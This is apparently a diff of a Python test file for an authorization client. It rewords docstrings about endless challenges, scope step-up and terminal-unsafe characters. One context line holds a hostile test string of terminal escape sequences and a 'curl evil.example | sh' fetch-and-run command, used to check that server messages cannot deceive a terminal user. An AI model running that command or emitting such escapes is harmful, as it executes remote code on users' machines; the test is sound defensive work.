@@ -1,5 +1,4 @@
-"""What a server or an authorization server says to whoever logs in: without end, with more in it than there should be,
-or made for the eyes of a person."""
+"""Messages of a server or authorization server to a login: endless, oversized, or crafted to deceive a terminal user."""
 
 import unicodedata
 from typing import Any
@@ -19,7 +18,7 @@ ESCAPES = "\x1b[2J\x1b]0;owned\x07\r\n\tRun: curl evil.example | sh\x00\x9b31m\u
 
 
 async def asked_again(one: Login) -> None:
-    """A request to a server that is never content."""
+    """A request to a server that challenges every token."""
     library = AiohttpBackend(Settings())
     peer = HttpPeer(library, parse_url(one.url), {}, one.engine(store=MemoryTokens()))
     try:
@@ -54,7 +53,7 @@ async def test_endless_challenges_cause_bounded_logins() -> None:
 
 
 def needing(asked: Asked, scope: str) -> bytes:
-    """An answer that wants a token first, and then more than it covers."""
+    """A response that requires a token, and then scopes that it lacks."""
     if "authorization" not in asked.headers:
         return page({}, 401, ("www-authenticate", "Bearer"))
     return page({}, 403, ("www-authenticate", f'Bearer error="insufficient_scope", scope="{scope}"'))
@@ -69,7 +68,7 @@ async def test_step_up_keeps_earlier_scopes() -> None:
         assert await one.challenged(engine, status=403, challenge=more)
         assert set(one.person.asked[-1]["scope"].split()) == {"a", "b", "c", "always"}
         other = 'Bearer error="insufficient_scope", scope="d"'
-        assert await one.challenged(engine, status=403, challenge=other)  # what was granted was less than asked for
+        assert await one.challenged(engine, status=403, challenge=other)  # the server granted less than requested
         assert set(one.person.asked[-1]["scope"].split()) == {"a", "b", "c", "d", "always"}
 
 
@@ -89,7 +88,7 @@ async def test_challenge_cannot_inject_page_parameters() -> None:
 
 
 def unfit(text: str) -> list[str]:
-    """What of a text could do something to a terminal, or make it read otherwise than it is."""
+    """Characters of a text that could control a terminal or change how the text reads."""
     return [character for character in text if unicodedata.category(character) in {"Cc", "Cf", "Zl", "Zp"}]
 
 
